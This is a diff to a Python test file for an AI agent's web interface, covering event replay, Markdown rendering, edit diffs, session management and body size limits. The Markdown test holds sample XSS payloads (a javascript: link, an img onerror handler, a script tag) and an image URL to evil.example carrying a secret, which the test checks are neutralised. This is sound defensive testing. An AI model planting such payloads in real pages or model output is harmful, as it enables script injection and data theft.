@@ -342,11 +342,15 @@ async def test_reconnecting_replays_what_was_missed(tmp_path: Path) -> None:
             await client.post("/api/permissions/call_w", json={"decision": "allow"}, headers=auth(app))
             await sse.until("run.completed")
         live = [(i, e) for i, e in sse.seen if i is not None]
-        # a late page sees the whole run, in the same order
+        # a late page sees the whole run, in the same order, minus the chunks a
+        # finished message or tool call no longer needs (text.end and
+        # tool.completed hold them whole)
+        kept = [(i, e) for i, e in live if e["type"] not in ("text.delta", "tool.output")]
+        assert len(kept) < len(live)
         async with events(client, app, since=0) as again:
             await again.until("ui.hello")
-            replay = [await again.next() for _ in live]
-        assert replay == live
+            replay = [await again.next() for _ in kept]
+        assert replay == kept
         # Last-Event-ID resumes after the given event
         middle = live[len(live) // 2][0]
         headers = {**auth(app), "Last-Event-ID": str(middle)}
@@ -445,14 +449,251 @@ async def test_shutdown_ends_open_streams_and_aborts_the_run(app: Any) -> None:
 
 
 def test_event_hub_replays_and_closes() -> None:
-    hub = EventHub(max_log=3)
-    for n in range(5):
-        hub.publish({"type": "t", "data": {"n": n}})
-    backlog, queue = hub.subscribe(since=0)
-    assert [json.loads(d)["data"]["n"] for _, d in backlog] == [2, 3, 4]
-    hub.publish({"type": "t", "data": {"n": 5}})
-    assert json.loads(queue.get_nowait()[1])["data"]["n"] == 5
+    hub = EventHub(budget_bytes=4096)
+    for n in range(50):
+        hub.publish({"type": "t", "data": {"n": n, "pad": "x" * 100}})
+    assert hub.replay_bytes <= 4096
+    backlog, sub = hub.subscribe(since=0)
+    numbers = [json.loads(d)["data"]["n"] for _, d in backlog]
+    assert numbers == list(range(50 - len(numbers), 50)) and 0 < len(numbers) < 50  # the newest, in order
+    assert hub.gap_after(0) and not hub.gap_after(49)
+    hub.publish({"type": "t", "data": {"n": 50}})
+    assert json.loads(sub.get_nowait()[1])["data"]["n"] == 50
     hub.close()
-    assert queue.get_nowait() is None
+    assert sub.get_nowait() is None
     _, late = hub.subscribe(since=0)
     assert late.get_nowait() is None
+
+
+# ---------------------------------------------------------------- markdown
+
+
+XSS_TEXT = (
+    "Here is the fix:\n\n```python\ndef f():\n    return 1\n```\n\n- one\n- two\n\n"
+    "See [the docs](https://example.org/docs) or [this](javascript:alert(1)).\n\n"
+    "<img src=x onerror=\"window.__xss=1\"> <script>window.__xss=2</script> ![pic](https://evil.example/p.png?k=SECRET)"
+)
+
+
+async def test_markdown_is_rendered_on_the_server_and_html_from_the_model_stays_text(tmp_path: Path) -> None:
+    app = create_app(scripted_factory(tmp_path, lambda: [XSS_TEXT]), store=MemoryStore())
+    h = auth(app)
+    async with serving(app) as client, events(client, app) as sse:
+        sid = (await client.post("/api/runs", json={"task": "fix it"}, headers=h)).json()["session_id"]
+        end = await sse.until("text.end")
+        done = await sse.until("run.completed")
+        await app.state.ui.wait_idle()
+        transcript = (await client.get(f"/api/sessions/{sid}", headers=h)).json()
+        css = await client.get("/static/highlight.css")
+    html = end["ui"]["html"]
+    assert end["data"]["text"] == XSS_TEXT  # the event itself is untouched
+    assert '<pre><code class="language-python"><span class="tok-k">def</span>' in html
+    assert "<li>one</li>" in html
+    assert ('<a href="https://example.org/docs" target="_blank" rel="noopener noreferrer" '
+            'title="https://example.org/docs">the docs</a>') in html
+    assert "javascript:" not in html.replace("[this](javascript:alert(1))", "")
+    assert "&lt;img src=x onerror=" in html and "&lt;script&gt;" in html
+    assert "<img" not in html and "<script" not in html
+    # a Markdown image becomes a link the person may click, never a fetch the page makes by itself
+    assert '<a href="https://evil.example/p.png?k=SECRET"' in html and "🖼 pic" in html
+    assert done["ui"]["html"] == html
+    assistant = [m for m in transcript["messages"] if m["role"] == "assistant"]
+    assert assistant[0]["content"][0]["html"] == html
+    assert css.status_code == 200 and ".md pre code .tok-k" in css.text
+
+
+# ---------------------------------------------------------------- diffs
+
+
+@tool(presentation={"label": "Edit file", "icon": "📝", "tone": "warning"})
+def edit_file(path: str, old_string: str, new_string: str, ctx: ToolContext) -> str:
+    """Replace old_string with new_string."""
+    target = ctx.workspace.resolve(path, write=True)
+    target.write_text(target.read_text().replace(old_string, new_string, 1))
+    return f"edited {path}"
+
+
+@tool(presentation={"label": "Write file", "icon": "✍️", "tone": "warning"})
+def write_file(path: str, content: str, ctx: ToolContext) -> str:
+    """Write a file."""
+    ctx.workspace.resolve(path, write=True).write_text(content)
+    return f"wrote {path}"
+
+
+@tool(presentation={"label": "Replace lines", "icon": "🔁", "tone": "warning"})
+def replace_lines(path: str, start_line: int, end_line: int, replacement: str, ctx: ToolContext) -> str:
+    """Replace lines start_line..end_line."""
+    target = ctx.workspace.resolve(path, write=True)
+    lines = target.read_text().splitlines(keepends=True)
+    lines[start_line - 1:end_line] = [replacement]
+    target.write_text("".join(lines))
+    return f"replaced lines in {path}"
+
+
+@tool(presentation={"label": "Apply patch", "icon": "🩹", "tone": "warning"})
+def apply_patch(patch: str, ctx: ToolContext) -> str:
+    """Apply a patch (the tests deny it)."""
+    raise AssertionError("the test denies apply_patch; it must not run")
+
+
+PATCH = "--- a/app.py\n+++ b/app.py\n@@ -1,2 +1,2 @@\n-x = 1\n+x = 2\n y = 3\n"
+
+
+def edit_script() -> list[Any]:
+    return [
+        {"tool_calls": [{"id": "e1", "name": "edit_file",
+                         "input": {"path": "app.py", "old_string": "y = 3", "new_string": "y = 4"}}]},
+        {"tool_calls": [{"id": "w1", "name": "write_file", "input": {"path": "new.txt", "content": "alpha\nbeta\n"}}]},
+        {"tool_calls": [{"id": "r1", "name": "replace_lines",
+                         "input": {"path": "app.py", "start_line": 1, "end_line": 1, "replacement": "x = 10\n"}}]},
+        {"tool_calls": [{"id": "p1", "name": "apply_patch", "input": {"patch": PATCH}}]},
+        "edited",
+    ]
+
+
+async def test_edit_approvals_carry_a_unified_diff(tmp_path: Path) -> None:
+    (tmp_path / "app.py").write_text("x = 1\ny = 3\nz = 5\n")
+
+    def factory(*, session_id: str, store: Any) -> Any:
+        return create_agent(tmp_path, provider=ScriptedProvider(edit_script()), autoload_plugins=False, plugins=[],
+                            tools=[edit_file, write_file, replace_lines, apply_patch], store=store,
+                            session_id=session_id)
+
+    app = create_app(factory, store=MemoryStore())
+    h = auth(app)
+    seen: dict[str, dict[str, Any]] = {}
+    async with serving(app) as client, events(client, app) as sse:
+        await client.post("/api/runs", json={"task": "edit"}, headers=h)
+        for call_id, decision in (("e1", "allow"), ("w1", "allow"), ("r1", "allow"), ("p1", "deny")):
+            required = await sse.until("permission.required")
+            assert required["data"]["tool_call_id"] == call_id
+            seen[call_id] = required["ui"]["diff"]
+            pending = (await client.get("/api/state", headers=h)).json()["pending_permissions"]
+            assert pending[0]["ui"]["diff"] == seen[call_id]  # a page that loads now sees the same
+            await client.post(f"/api/permissions/{call_id}", json={"decision": decision}, headers=h)
+        await sse.until("run.completed")
+    edit = seen["e1"]
+    assert edit["path"] == "app.py" and edit["note"] is None
+    assert edit["text"].splitlines() == ["--- a/app.py", "+++ b/app.py", "@@ -1,3 +1,3 @@", " x = 1", "-y = 3",
+                                         "+y = 4", " z = 5"]
+    assert (edit["added"], edit["removed"]) == (1, 1)
+    write = seen["w1"]
+    assert write["note"] == "creates a new file"
+    assert write["text"].splitlines()[-2:] == ["+alpha", "+beta"]
+    lines = seen["r1"]
+    assert lines["text"].splitlines()[2:] == ["@@ -1,3 +1,3 @@", "-x = 1", "+x = 10", " y = 4", " z = 5"]
+    assert seen["p1"]["text"] == PATCH.rstrip("\n")
+    assert (tmp_path / "app.py").read_text() == "x = 10\ny = 4\nz = 5\n"
+    assert (tmp_path / "new.txt").read_text() == "alpha\nbeta\n"
+
+
+# ---------------------------------------------------------------- sessions: rename, delete
+
+
+async def test_sessions_can_be_renamed_and_deleted(tmp_path: Path) -> None:
+    app = create_app(scripted_factory(tmp_path, full_script), store=MemoryStore())
+    h = auth(app)
+    async with serving(app) as client, events(client, app) as sse:
+        first = (await client.post("/api/runs", json={"task": "first"}, headers=h)).json()["session_id"]
+        await sse.until("permission.required")
+        # a running session can be neither renamed nor deleted
+        busy = await client.patch(f"/api/sessions/{first}", json={"title": "x"}, headers=h)
+        assert busy.status_code == 409 and "running" in busy.json()["error"]
+        assert (await client.delete(f"/api/sessions/{first}", headers=h)).status_code == 409
+        await client.post("/api/abort", headers=h)
+        await sse.until("run.interrupted")
+        await app.state.ui.wait_idle()
+
+        renamed = await client.patch(f"/api/sessions/{first}", json={"title": "  Tidy the README  "}, headers=h)
+        assert renamed.status_code == 200 and renamed.json() == {"session_id": first, "title": "Tidy the README"}
+        listing = (await client.get("/api/sessions", headers=h)).json()["sessions"]
+        assert [s["title"] for s in listing] == ["Tidy the README"]
+        for bad, words in (({"title": ""}, "non-empty"), ({"title": 5}, "string"), ({"title": "a\nb"}, "U+000A"),
+                           ({"title": "\x1b[2J"}, "U+001B"), ({"title": "t" * 201}, "limit is 200")):
+            res = await client.patch(f"/api/sessions/{first}", json=bad, headers=h)
+            assert res.status_code == 400 and words in res.json()["error"], (bad, res.text)
+        assert (await client.patch("/api/sessions/ses_none", json={"title": "x"}, headers=h)).status_code == 404
+        assert (await client.delete("/api/sessions/ses_none", headers=h)).status_code == 404
+
+        assert app.state.ui.session_id == first
+        gone = await client.delete(f"/api/sessions/{first}", headers=h)
+        assert gone.status_code == 200
+        assert gone.json()["deleted"] == first and gone.json()["current"] != first  # the next task starts afresh
+        assert (await client.get("/api/sessions", headers=h)).json()["sessions"] == []
+        assert (await client.get(f"/api/sessions/{first}", headers=h)).status_code == 404
+        # from another site: refused before anything happens
+        foreign = await client.delete(f"/api/sessions/{first}", headers={**h, "Origin": "http://evil.example"})
+        assert foreign.status_code == 403
+
+
+async def test_a_store_that_cannot_rename_says_so(tmp_path: Path) -> None:
+    class AppendOnly:
+        def __init__(self) -> None:
+            self.inner = MemoryStore()
+
+        def load(self, session_id: str) -> Any:
+            return self.inner.load(session_id)
+
+        def append(self, session_id: str, message: Any) -> None:
+            self.inner.append(session_id, message)
+
+        def list_sessions(self) -> Any:
+            return self.inner.list_sessions()
+
+    app = create_app(scripted_factory(tmp_path, lambda: ["ok"]), store=AppendOnly())  # type: ignore[arg-type]
+    h = auth(app)
+    async with serving(app) as client, events(client, app) as sse:
+        sid = (await client.post("/api/runs", json={"task": "t"}, headers=h)).json()["session_id"]
+        await sse.until("run.completed")
+        await app.state.ui.wait_idle()
+        res = await client.patch(f"/api/sessions/{sid}", json={"title": "x"}, headers=h)
+        assert res.status_code == 501 and "cannot rename or delete" in res.json()["error"]
+
+
+# ---------------------------------------------------------------- body limits
+
+
+async def test_request_bodies_are_capped(tmp_path: Path) -> None:
+    app = create_app(scripted_factory(tmp_path, lambda: ["ok"]), store=MemoryStore())
+    h = auth(app)
+    big_task = {"task": "x" * (1024 * 1024)}
+    async with serving(app) as client:
+        res = await client.post("/api/runs", json=big_task, headers=h)
+        assert res.status_code == 413
+        assert "too large" in res.json()["error"] and "1,048,576 bytes" in res.json()["error"]
+
+        async def chunked() -> AsyncIterator[bytes]:  # no Content-Length: counted as it arrives
+            yield b'{"task": "'
+            for _ in range(40):
+                yield b"y" * 65536
+            yield b'"}'
+
+        res = await client.post("/api/runs", content=chunked(), headers={**h, "Content-Type": "application/json"})
+        assert res.status_code == 413
+        # small endpoints have a small limit
+        res = await client.post("/api/permissions/x", json={"decision": "allow", "pad": "p" * 20_000}, headers=h)
+        assert res.status_code == 413 and "16,384 bytes" in res.json()["error"]
+        # no token: refused before the body is looked at
+        assert (await client.post("/api/runs", json=big_task)).status_code == 403
+        assert not app.state.ui.running and app.state.ui.status == "idle"
+        # just under the limit is fine
+        ok = await client.post("/api/runs", json={"task": "z" * (1024 * 1024 - 100)}, headers=h)
+        assert ok.status_code == 202
+        await app.state.ui.wait_idle()
+
+
+async def test_a_page_asking_for_dropped_events_is_told(tmp_path: Path) -> None:
+    app = create_app(scripted_factory(tmp_path, full_script), store=MemoryStore(), replay_budget_bytes=2048)
+    h = auth(app)
+    async with serving(app) as client, events(client, app) as sse:
+        await client.post("/api/runs", json={"task": "write a note"}, headers=h)
+        required = await sse.until("permission.required")
+        async with events(client, app, since=0) as late:
+            await late.until("ui.hello")
+            _, gap = await late.next()
+            assert gap["type"] == "ui.replay_gap" and gap["data"]["budget_bytes"] == 2048
+            # the pending approval survived the tiny budget: a late page can still answer it
+            assert (await late.until("permission.required"))["data"] == required["data"]
+        assert app.state.ui.hub.replay_bytes <= 2048 + len(json.dumps(required)) * 4
+        await client.post("/api/abort", headers=h)
+        await sse.until("run.interrupted")
